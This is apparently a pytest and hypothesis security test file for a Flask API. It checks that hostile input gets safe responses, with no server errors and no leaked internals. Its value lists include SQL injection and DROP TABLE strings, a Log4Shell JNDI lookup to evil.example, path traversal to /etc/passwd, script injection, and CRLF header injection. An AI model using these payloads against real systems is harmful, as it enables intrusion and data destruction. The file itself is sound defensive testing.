"""Test that hostile input gets an ordinary response or a problem, and never an internal error."""

from typing import Any
from urllib.parse import quote

import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st

from tests.api.factories import DIRECTIVE, LIST_SCHEMAS
from tests.conftest import ON_BOTH_BACKENDS
from tests.examples import examples

# Most values are refused before the database is queried. Those that reach it are tested on both databases.
TEXT_PARAMETERS = ["jurisdiction", "document", "q"]
PARAMETER_NAMES = ["as_of", "revision", "known_at", "limit", "cursor", "fields", "kind", *TEXT_PARAMETERS]
HOSTILE_VALUES = [
    "\0",
    "a\0b",
    "'; DROP TABLE measures; --",
    "' OR '1'='1",
    "1 UNION SELECT 1,2,3",
    "%s%n%x",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\u202e\ufeff\u0000",
    "\U0001f5fd" * 50,
    "é" * 3000,
    "A" * 8000,
    "1e309",
    "-1",
    "NaN",
    "Infinity",
    "9" * 4400,
    "null",
    "[]",
    "0x10",
    "true",
    "0000-00-00",
    "-0001-01-01",
    "99999-01-01",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59.999999-23:59",
    "2026-01-01T00:00:00+99:99",
    "..",
    ",",
    ",,,,",
    "a." * 500,
    "\r\nSet-Cookie: a=b",
    "\n",
    "%",
    "_",
    "\\",
]
ODD_ENCODINGS = ["%", "%0", "%zz", "%ff", "%c0%80", "%ed%a0%80", "%f8%88%80%80%80", "%00", "%u0041", "+", "&", "=", ";", "%e2%82", "%80%80"]
HEADER_NAMES = [
    *("Accept", "Accept-Encoding", "Accept-Language", "If-None-Match", "If-Modified-Since", "If-Match", "Range", "Cache-Control"),
    *("Origin", "Host", "X-Forwarded-For", "Content-Type", "Authorization", "Cookie"),
]
PATH_PREFIXES = ["/v1/jurisdictions/", "/v1/measures/", "/v1/figures/", "/v1/documents/", "/"]
header_text = st.text(st.characters(min_codepoint=32, max_codepoint=255, exclude_characters="\x7f"), max_size=300)
short_text = st.text(max_size=60)


def is_safe_response(response: Any) -> bool:
    """Return whether a response is no internal error and reveals no internals."""
    internals = ("Traceback", "sqlalchemy", "psycopg", "sqlite3", "site-packages")
    return response.status_code < 500 and not any(word in response.text for word in internals)


def unsafe_parameters(app: Flask, names: list[str]) -> list[tuple[str, str]]:
    """Return the parameters and values that get an unsafe response."""
    client = app.test_client()
    return [
        (name, value)
        for name in names
        for value in HOSTILE_VALUES
        if not is_safe_response(client.get("/v1/measures", query_string={"limit": "1", name: value}))
    ]


def test_no_parameter_value_causes_an_error(app: Flask) -> None:
    assert unsafe_parameters(app, sorted({*PARAMETER_NAMES} - {*TEXT_PARAMETERS})) == []


@ON_BOTH_BACKENDS
def test_no_text_that_reaches_the_database_causes_an_error(app: Flask) -> None:
    assert unsafe_parameters(app, TEXT_PARAMETERS) == []


@ON_BOTH_BACKENDS
def test_no_name_in_a_path_causes_an_error(app: Flask) -> None:
    client = app.test_client()
    failures = []
    for prefix in [*PATH_PREFIXES, "/v1/", "/problems/", "/docs/assets/"]:
        for value in HOSTILE_VALUES:
            response = client.get(prefix + quote(value, safe=""))
            if not is_safe_response(response) or response.status_code not in (308, 404):
                failures.append((prefix, value))
    assert failures == []


@ON_BOTH_BACKENDS
def test_no_percent_encoding_causes_an_error(app: Flask) -> None:
    client = app.test_client()
    urls = ("/v1/measures?q={}", "/v1/measures?{}=1", "/v1/measures?cursor={}", "/v1/jurisdictions?jurisdiction={}")
    failures = []
    for url in (url.format(encoding) for encoding in ODD_ENCODINGS for url in urls):
        path, _, query_string = url.partition("?")
        if not is_safe_response(client.get("/", environ_overrides={"PATH_INFO": path, "QUERY_STRING": query_string})):
            failures.append(url)
    assert failures == []


@ON_BOTH_BACKENDS
def test_raw_bytes_in_a_path_are_not_found(app: Flask) -> None:
    client = app.test_client()
    failures = []
    for raw_bytes in ["\xff\xfe", "\xc0\x80", "\xed\xa0\x80", "a\x00b", "\xe2\x82", "\x80"]:
        for prefix in PATH_PREFIXES:
            response = client.get("/", environ_overrides={"PATH_INFO": prefix + raw_bytes})
            if not is_safe_response(response) or response.status_code != 404:
                failures.append((prefix, raw_bytes))
    assert failures == []


def test_nul_byte_in_a_path_gets_a_plain_message(app: Flask) -> None:
    response = app.test_client().get("/v1/measures/a%00b")
    assert (response.status_code, response.json["detail"]) == (404, "Path contains a NUL byte.")


@pytest.mark.parametrize("path", ["/v1/measures", "/v1/jurisdictions/va", "/healthz", "/nothing"])
def test_raw_bytes_in_a_query_are_a_bad_request(app: Flask, path: str) -> None:
    response = app.test_client().get("/", environ_overrides={"PATH_INFO": path, "QUERY_STRING": "as_of=2026-01-01&\xff=1"})
    assert response.status_code == (404 if path == "/nothing" else 400)


def test_line_breaks_in_a_query_add_no_header_to_a_redirect(app: Flask) -> None:
    response = app.test_client().get("/v1/jurisdictions/va?as_of=2026-01-01%0d%0aSet-Cookie:%20a=b")
    assert response.status_code == 422
    assert "Set-Cookie" not in response.headers


@pytest.mark.parametrize(
    "path", ["/v1/jurisdictions///evil.example", "//evil.example/v1/measures", "/v1//measures", "/v1/measures/", "/v1/jurisdictions/va"]
)
def test_redirects_never_lead_to_another_host(app: Flask, path: str) -> None:
    response = app.test_client().get("/", environ_overrides={"PATH_INFO": path, "HTTP_HOST": "evil.example"})
    assert response.status_code in (308, 404)
    assert response.headers.get("Location", "/v1/").startswith("/v1/")


def test_ten_thousand_unknown_parameters_are_refused(app: Flask) -> None:
    response = app.test_client().get("/v1/measures?" + "&".join(f"a{number}=1" for number in range(10_000)))
    assert is_safe_response(response)
    assert response.status_code in (400, 413, 414, 422)


@pytest.mark.parametrize(
    "body", [b"{" * 100_000, b"[" * 100_000, b"\0" * 5000, b"\xff" * 5000, b"x" * 2_000_000], ids=["{", "[", "nul", "bytes", "long"]
)
@pytest.mark.parametrize("path", ["/v1/measures", "/v1/jurisdictions/VA", "/healthz"])
def test_body_of_a_get_request_is_ignored_or_refused(app: Flask, path: str, body: bytes) -> None:
    response = app.test_client().get(path, data=body, content_type="application/json")
    assert response.status_code in (200, 413)


@pytest.mark.parametrize("length", ["-1", "abc", "9" * 50, ""])
def test_malformed_content_length_causes_no_error(app: Flask, length: str) -> None:
    assert is_safe_response(app.test_client().get("/v1/codebook", headers={"Content-Length": length}))


@examples(6)
@given(name=st.sampled_from(HEADER_NAMES), value=header_text)
def test_no_header_causes_an_error(app: Flask, name: str, value: str) -> None:
    assert is_safe_response(app.test_client().get("/v1/codebook", headers={name: value}))


@ON_BOTH_BACKENDS
@examples(6)
@given(
    path=st.sampled_from(sorted(LIST_SCHEMAS)),
    query=st.dictionaries(st.sampled_from(PARAMETER_NAMES) | short_text, st.sampled_from(HOSTILE_VALUES) | short_text, max_size=3),
)
def test_no_query_causes_an_error(app: Flask, path: str, query: dict[str, str]) -> None:
    encoded_query = {name: value.encode("utf-8", "surrogatepass") for name, value in query.items()}
    assert is_safe_response(app.test_client().get(path, query_string=encoded_query))


@ON_BOTH_BACKENDS
@examples(6)
@given(prefix=st.sampled_from(PATH_PREFIXES), name=short_text)
def test_no_path_causes_an_error(app: Flask, prefix: str, name: str) -> None:
    assert is_safe_response(app.test_client().get(prefix + quote(name.encode("utf-8", "surrogatepass"), safe="")))


@ON_BOTH_BACKENDS
def test_sql_in_parameters_matches_nothing_and_changes_nothing(app: Flask) -> None:
    client = app.test_client()
    initial_count = client.get("/v1/measures").json["count"]
    assert client.get(f"/v1/measures/{DIRECTIVE}'%20OR%20'1'='1").status_code == 404
    client.get("/v1/measures?q='; DELETE FROM measure_versions; --")
    assert client.get("/v1/measures").json["count"] == initial_count


@pytest.mark.parametrize("host", ["", "a b", "[", "evil.example:99999", "é", "a" * 500])
def test_malformed_host_causes_no_error(app: Flask, host: str) -> None:
    assert all(is_safe_response(app.test_client().get(path, headers={"Host": host})) for path in ("/v1/codebook", "/v1/measures?limit=1"))
